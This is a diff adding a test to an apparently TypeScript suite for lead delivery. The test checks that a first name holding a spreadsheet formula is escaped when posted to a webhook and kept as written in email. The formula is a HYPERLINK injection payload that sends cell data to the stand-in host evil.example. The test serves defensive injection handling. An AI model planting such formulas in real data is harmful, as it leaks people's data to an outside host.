@@ -133,6 +133,17 @@ export function describeDelivery(storage: string, open: () => Promise<{ db: Data
       expect(message.text).not.toMatch(/[<>]/)
     })
 
+    it('posts a first name made of a spreadsheet formula to the webhook as text, and emails it as written', async () => {
+      await deliverTo({ webhook: true, email: true })
+      const { at } = await receiver
+      const formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+      const row = await send({ first_name: formula })
+      await eventually(async () => at('/hook').length === 1 && (await smtp).mails.some((mail) => mail.raw.includes(row.id)), 15_000, () => log.join('\n'))
+      expect(JSON.parse(at('/hook')[0].body).data).toMatchObject({ id: row.id, first_name: `'${formula}`, phone: row.phone })
+      const mail = (await smtp).mails.find((candidate) => candidate.raw.includes(row.id))
+      expect(mail?.raw).toContain(`Name: ${formula} Diaz`)
+    })
+
     it('logs one line per lead, without contact details, when no target is configured', async () => {
       await deliverTo({})
       const row = await send()
